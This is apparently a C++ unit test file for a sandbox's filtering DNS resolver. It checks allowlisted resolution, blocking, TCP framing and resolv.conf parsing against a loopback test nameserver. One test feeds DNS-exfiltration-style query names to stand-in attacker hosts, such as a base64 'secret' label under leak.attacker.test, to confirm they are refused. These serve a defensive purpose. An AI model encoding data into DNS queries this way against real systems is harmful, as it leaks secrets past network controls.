// The sandbox's resolver against a nameserver of the test's own on
// loopback: allowed names answered from upstream and learned, every other
// name answered as one that does not exist without a query leaving, an
// upstream that refuses heard as a failure.
#include "sentry/names/resolver.h"

#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/timerfd.h>
#include <unistd.h>

#include <atomic>
#include <cstdint>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "config/policy/cidr.h"
#include "sentry/names/dns_message.h"
#include "tests/sentry/dns_message_builder.h"
#include "tests/support/temp_dir.h"

namespace vigil::sentry::names {
namespace {

using test::Ipv4;
using test::Message;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

// A UDP socket on 127.0.0.1 and an ephemeral port.
UniqueFd BoundSocket(sockaddr_in& address) {
  UniqueFd socket(::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
  address = {};
  address.sin_family = AF_INET;
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  EXPECT_EQ(::bind(socket.Get(), reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
  socklen_t length = sizeof address;
  ::getsockname(socket.Get(), reinterpret_cast<sockaddr*>(&address), &length);
  return socket;
}

// A listening TCP socket on 127.0.0.1 and `port` (0: an ephemeral one).
UniqueFd ListeningSocket(sockaddr_in& address, std::uint16_t port = 0) {
  UniqueFd socket(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
  address = {};
  address.sin_family = AF_INET;
  address.sin_port = htons(port);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  EXPECT_EQ(::bind(socket.Get(), reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
  EXPECT_EQ(::listen(socket.Get(), 8), 0);
  socklen_t length = sizeof address;
  ::getsockname(socket.Get(), reinterpret_cast<sockaddr*>(&address), &length);
  return socket;
}

// The test's nameserver, over UDP and TCP on one port: api.example.com is
// a CNAME to two addresses, refused.example.com is REFUSED, anything else
// NXDOMAIN. Counts what it was asked, and how.
class Upstream {
 public:
  Upstream()
      : socket_(BoundSocket(address_)),
        listening_(ListeningSocket(tcp_address_, ntohs(address_.sin_port))),
        thread_([this] { Serve(); }) {}
  ~Upstream() {
    stop_ = true;
    thread_.join();
  }
  std::string Csv() const { return "127.0.0.1:" + std::to_string(ntohs(address_.sin_port)); }
  std::vector<std::string> asked() {
    std::lock_guard lock(mutex_);
    return asked_;
  }
  int asked_over_tcp() const { return over_tcp_; }

 private:
  void Serve() {
    std::vector<std::uint8_t> buffer(4096);
    while (!stop_) {
      pollfd ready[] = {{.fd = socket_.Get(), .events = POLLIN, .revents = 0},
                        {.fd = listening_.Get(), .events = POLLIN, .revents = 0}};
      if (::poll(ready, 2, 20) <= 0) continue;
      if (ready[1].revents != 0) {
        ServeTcp();
        continue;
      }
      sockaddr_storage from{};
      socklen_t length = sizeof from;
      ssize_t got = ::recvfrom(socket_.Get(), buffer.data(), buffer.size(), 0,
                               reinterpret_cast<sockaddr*>(&from), &length);
      if (got <= 0) continue;
      std::vector<std::uint8_t> answer = AnswerTo({buffer.begin(), buffer.begin() + got});
      if (answer.empty()) continue;
      ::sendto(socket_.Get(), answer.data(), answer.size(), 0, reinterpret_cast<sockaddr*>(&from),
               length);
    }
  }

  // One query on one connection, answered, then closed.
  void ServeTcp() {
    UniqueFd connection(::accept4(listening_.Get(), nullptr, nullptr, SOCK_CLOEXEC));
    if (!connection) return;
    ++over_tcp_;
    std::uint8_t length[2];
    if (::recv(connection.Get(), length, 2, MSG_WAITALL) != 2) return;
    std::vector<std::uint8_t> query((length[0] << 8) | length[1]);
    if (::recv(connection.Get(), query.data(), query.size(), MSG_WAITALL) !=
        static_cast<ssize_t>(query.size())) {
      return;
    }
    std::vector<std::uint8_t> answer = AnswerTo(query);
    std::vector<std::uint8_t> framed = {static_cast<std::uint8_t>(answer.size() >> 8),
                                        static_cast<std::uint8_t>(answer.size() & 0xff)};
    framed.insert(framed.end(), answer.begin(), answer.end());
    (void)::send(connection.Get(), framed.data(), framed.size(), MSG_NOSIGNAL);
  }

  // The answer to `query`; empty for none.
  std::vector<std::uint8_t> AnswerTo(const std::vector<std::uint8_t>& query) {
    Result<Question> question = ParseQuery(query);
    if (!question) return {};
    {
      std::lock_guard lock(mutex_);
      asked_.push_back(question->name);
    }
    std::vector<std::uint8_t> answer;
    if (question->name == "api.example.com" && question->type == kTypeA) {
      Message m(question->id, 0x8180, 1, 3);
      m.Question("api.example.com", kTypeA)
          .Cname("api.example.com", 300, "edge.cdn.example.net")
          .Record("edge.cdn.example.net", kTypeA, 30, Ipv4("192.0.2.10"))
          .Record("edge.cdn.example.net", kTypeA, 30, Ipv4("192.0.2.11"));
      answer = m.bytes();
    } else if (question->name == "silent.example.com") {
      return {};  // never answered
    } else if (question->name == "refused.example.com") {
      answer = AnswerWithout(query, Rcode::kRefused);
    } else {
      answer = AnswerWithout(query, Rcode::kNameError);
    }
    return answer;
  }

  sockaddr_in address_{};
  sockaddr_in tcp_address_{};
  UniqueFd socket_;
  UniqueFd listening_;
  std::atomic<int> over_tcp_ = 0;
  std::atomic<bool> stop_ = false;
  std::mutex mutex_;
  std::vector<std::string> asked_;
  std::thread thread_;
};

class ResolverTest : public ::testing::Test {
 protected:
  void SetUp() override {
    Result<std::unique_ptr<EventLoop>> loop = EventLoop::Create(4);
    ASSERT_TRUE(loop) << loop.error().message;
    loop_ = std::move(*loop);
    Result<std::unique_ptr<Resolver>> resolver = Resolver::Start(
        *loop_,
        {.udp = BoundSocket(resolver_address_), .tcp = ListeningSocket(resolver_tcp_address_)},
        learned_,
        {.allowed = [](std::string_view name) { return name.ends_with("example.com"); },
         .record = [this](const Resolution& r) { resolutions_.push_back(r); },
         .upstream = upstream_.Csv()});
    ASSERT_TRUE(resolver) << resolver.error().message;
    resolver_ = std::move(*resolver);
    client_ = UniqueFd(::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
  }

  // Sends each query to the resolver, then serves the loop until as many
  // answers came back; returns them in arrival order.
  std::vector<std::vector<std::uint8_t>> Ask(const std::vector<Message>& queries) {
    for (const Message& query : queries) {
      ::sendto(client_.Get(), query.bytes().data(), query.bytes().size(), 0,
               reinterpret_cast<const sockaddr*>(&resolver_address_), sizeof resolver_address_);
    }
    std::vector<std::vector<std::uint8_t>> answers;
    EXPECT_TRUE(loop_->Watch(client_.Get(), [&](std::uint32_t) {
      std::vector<std::uint8_t> buffer(4096);
      ssize_t got;
      while ((got = ::recv(client_.Get(), buffer.data(), buffer.size(), 0)) > 0) {
        answers.emplace_back(buffer.begin(), buffer.begin() + got);
      }
    }));
    EXPECT_TRUE(loop_->Run([&] { return answers.size() >= queries.size(); }));
    loop_->Unwatch(client_.Get());
    return answers;
  }

  Upstream upstream_;
  LearnedNames learned_{std::chrono::seconds(10)};
  sockaddr_in resolver_address_{};
  sockaddr_in resolver_tcp_address_{};
  std::unique_ptr<EventLoop> loop_;
  std::unique_ptr<Resolver> resolver_;
  std::vector<Resolution> resolutions_;
  UniqueFd client_;
};

Message Query(std::uint16_t id, const std::string& name, std::uint16_t type = kTypeA) {
  Message query(id, 0x0100, 1, 0);
  query.Question(name, type);
  return query;
}

TEST_F(ResolverTest, AnAllowedNameIsAnsweredFromUpstreamAndLearned) {
  std::vector<std::vector<std::uint8_t>> answers = Ask({Query(0x4242, "API.example.com")});
  ASSERT_EQ(answers.size(), 1u);
  EXPECT_EQ(answers[0][0], 0x42);  // the client's own id
  EXPECT_EQ(answers[0][1], 0x42);
  EXPECT_EQ(AddressesIn(answers[0], kTypeA).size(), 2u);
  const std::vector<std::uint8_t> address = Ipv4("192.0.2.11");
  EXPECT_THAT(learned_.NamesOf(AF_INET, address.data(), LearnedNames::Clock::now()),
              ElementsAre("api.example.com"));
  ASSERT_EQ(resolutions_.size(), 1u);
  EXPECT_TRUE(resolutions_[0].allowed);
  EXPECT_EQ(resolutions_[0].rcode, Rcode::kNoError);
  EXPECT_EQ(resolutions_[0].addresses.size(), 2u);
  EXPECT_THAT(upstream_.asked(), ElementsAre("api.example.com"));
}

TEST_F(ResolverTest, ARefusedNameNeverLeaves) {
  // A name that carries data out, as DNS exfiltration does.
  std::vector<std::vector<std::uint8_t>> answers =
      Ask({Query(7, "c2VjcmV0.leak.attacker.test"), Query(8, "api.example.com.attacker.test")});
  ASSERT_EQ(answers.size(), 2u);
  for (const auto& answer : answers) {
    // NXDOMAIN, so that glibc goes on to the next name of a search list.
    EXPECT_EQ(answer[3] & 0xf, static_cast<int>(Rcode::kNameError));
    EXPECT_EQ(answer[2] & 0x80, 0x80);
  }
  EXPECT_THAT(upstream_.asked(), IsEmpty());
  ASSERT_EQ(resolutions_.size(), 2u);
  EXPECT_EQ(resolutions_[0].name, "c2vjcmv0.leak.attacker.test");
  EXPECT_FALSE(resolutions_[0].allowed);
  EXPECT_EQ(learned_.size(), 0u);
}

TEST_F(ResolverTest, AnswersAQueryPairAsGlibcSendsIt) {
  // glibc sends A and AAAA at once (sendmmsg); each gets its own answer.
  std::vector<std::vector<std::uint8_t>> answers =
      Ask({Query(1, "api.example.com"), Query(2, "api.example.com", kTypeAaaa)});
  ASSERT_EQ(answers.size(), 2u);
  EXPECT_EQ(resolutions_.size(), 2u);
}

TEST_F(ResolverTest, NoSuchNameAndAnUpstreamRefusalReachTheClient) {
  std::vector<std::vector<std::uint8_t>> answers =
      Ask({Query(3, "nothing.example.com"), Query(4, "refused.example.com")});
  ASSERT_EQ(answers.size(), 2u);
  for (const auto& answer : answers) {
    const int id = answer[1];
    const int rcode = answer[3] & 0xf;
    if (id == 3) {
      EXPECT_EQ(rcode, static_cast<int>(Rcode::kNameError));
    }
    // Every upstream refused: the client hears a failure, not a refusal
    // of vigil's.
    if (id == 4) {
      EXPECT_EQ(rcode, static_cast<int>(Rcode::kServerFailure));
    }
  }
  EXPECT_EQ(learned_.size(), 0u);
}

// Over TCP (a client whose UDP answer was truncated): two queries on one
// connection, each answered with its length; the allowed one asked
// upstream over TCP too, the other never asked.
TEST_F(ResolverTest, QueriesOverTcpAreAnsweredAndAskedUpstreamOverTcp) {
  UniqueFd client(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  ASSERT_EQ(::connect(client.Get(), reinterpret_cast<const sockaddr*>(&resolver_tcp_address_),
                      sizeof resolver_tcp_address_),
            0);
  std::vector<std::uint8_t> framed;
  for (const Message& query : {Query(21, "api.example.com"), Query(22, "exfil.attacker.test")}) {
    framed.push_back(static_cast<std::uint8_t>(query.bytes().size() >> 8));
    framed.push_back(static_cast<std::uint8_t>(query.bytes().size() & 0xff));
    framed.insert(framed.end(), query.bytes().begin(), query.bytes().end());
  }
  // Split mid-message, as a stream may deliver it.
  ASSERT_EQ(::send(client.Get(), framed.data(), 5, 0), 5);
  std::vector<std::vector<std::uint8_t>> answers;
  std::vector<std::uint8_t> received;
  ASSERT_TRUE(loop_->Watch(client.Get(), [&](std::uint32_t) {
    std::uint8_t buffer[4096];
    const ssize_t got = ::recv(client.Get(), buffer, sizeof buffer, MSG_DONTWAIT);
    if (got > 0) received.insert(received.end(), buffer, buffer + got);
    while (received.size() >= 2 && received.size() >= 2u + ((received[0] << 8) | received[1])) {
      const std::size_t length = (received[0] << 8) | received[1];
      answers.emplace_back(received.begin() + 2, received.begin() + 2 + length);
      received.erase(received.begin(), received.begin() + 2 + length);
    }
  }));
  ASSERT_EQ(::send(client.Get(), framed.data() + 5, framed.size() - 5, 0),
            static_cast<ssize_t>(framed.size() - 5));
  ASSERT_TRUE(loop_->Run([&] { return answers.size() >= 2; }));
  loop_->Unwatch(client.Get());
  for (const std::vector<std::uint8_t>& answer : answers) {
    if (answer[1] == 21) {
      EXPECT_EQ(AddressesIn(answer, kTypeA).size(), 2u);
    } else {
      EXPECT_EQ(answer[1], 22);
      EXPECT_EQ(answer[3] & 0xf, static_cast<int>(Rcode::kNameError));
    }
  }
  EXPECT_THAT(upstream_.asked(), ElementsAre("api.example.com"));
  EXPECT_EQ(upstream_.asked_over_tcp(), 1);
}

// A resolver that ends with a query upstream (the container stopped while
// a lookup waited) ends it unanswered and leaves nothing behind.
TEST_F(ResolverTest, EndingWithAQueryUpstreamLeavesNothing) {
  const Message query = Query(9, "silent.example.com");
  ::sendto(client_.Get(), query.bytes().data(), query.bytes().size(), 0,
           reinterpret_cast<const sockaddr*>(&resolver_address_), sizeof resolver_address_);
  UniqueFd tick(::timerfd_create(CLOCK_MONOTONIC, TFD_NONBLOCK | TFD_CLOEXEC));
  itimerspec every{.it_interval = {0, 10'000'000}, .it_value = {0, 10'000'000}};
  ::timerfd_settime(tick.Get(), 0, &every, nullptr);
  ASSERT_TRUE(loop_->Watch(tick.Get(), [&](std::uint32_t) {
    std::uint64_t expirations = 0;
    (void)!::read(tick.Get(), &expirations, sizeof expirations);
  }));
  ASSERT_TRUE(loop_->Run([&] { return !upstream_.asked().empty(); }));
  loop_->Unwatch(tick.Get());
  resolver_.reset();
  EXPECT_TRUE(resolutions_.empty());
}

// Upstreams from a resolv.conf of the caller's (the container's own, as
// create copied it), which the sentry then keeps the workload from.
TEST(ResolverUpstreamsTest, ComeFromTheResolvConfGiven) {
  vigil::test::TempDir dir("resolver");
  const std::string conf = dir.Write(
      "resolv.conf", "search corp.example\nnameserver 192.0.2.53\nnameserver 2001:db8::53\n");
  Result<std::unique_ptr<EventLoop>> loop = EventLoop::Create(4);
  ASSERT_TRUE(loop) << loop.error().message;
  LearnedNames learned(std::chrono::seconds(10));
  sockaddr_in address{};
  Result<std::unique_ptr<Resolver>> resolver =
      Resolver::Start(**loop, {.udp = BoundSocket(address)}, learned,
                      {.allowed = [](std::string_view) { return false; },
                       .record = [](const Resolution&) {},
                       .resolv_conf = conf});
  ASSERT_TRUE(resolver) << resolver.error().message;
  std::vector<std::string> upstreams;
  for (const config::Cidr& block : (*resolver)->Upstreams()) {
    upstreams.push_back(config::FormatCidr(block));
  }
  EXPECT_THAT(upstreams, ElementsAre("192.0.2.53/32", "2001:db8::53/128"));
}

}  // namespace
}  // namespace vigil::sentry::names
